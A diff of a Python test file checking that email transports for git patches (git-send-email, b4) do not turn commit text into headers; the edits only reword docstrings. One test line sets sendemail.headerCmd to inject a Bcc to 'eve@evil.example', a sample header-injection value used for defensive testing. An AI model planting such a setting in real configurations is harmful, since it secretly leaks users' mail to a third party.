@@ -1,6 +1,7 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""Test that no transport turns text in a commit into a header, and that invalid text is not
-reported as a network error.
+"""Test that no transport turns text in a commit into a header.
+
+Invalid text is not reported as a network error.
 """
 
 import os
@@ -26,7 +27,7 @@ TRANSPORTS = pytest.mark.parametrize("via", ["git-send-email", "b4"])
 
 
 def create_commit(repo: Repo, subject: str, author: str) -> None:
-    """Create a commit with any subject and author; git itself accepts carriage returns."""
+    """Create a commit with any subject and author. git accepts carriage returns in them."""
     (repo.path / "widget.c").write_text("int y;\n")
     repo.git("add -A")
     result = subprocess.run(
@@ -177,7 +178,7 @@ def test_undecodable_patch_names_its_commit(
 
 
 def test_header_command_setting_is_harmless(tmp_path: Path) -> None:
-    """Test that an older git without the setting accepts the option that disables it."""
+    """Test that a git version without the setting accepts the option that disables it."""
     with FaultySink() as server:
         repo = topic(tmp_path / "r", 1, server=server)
         repo.git("config --global sendemail.headerCmd 'echo Bcc: eve@evil.example'")
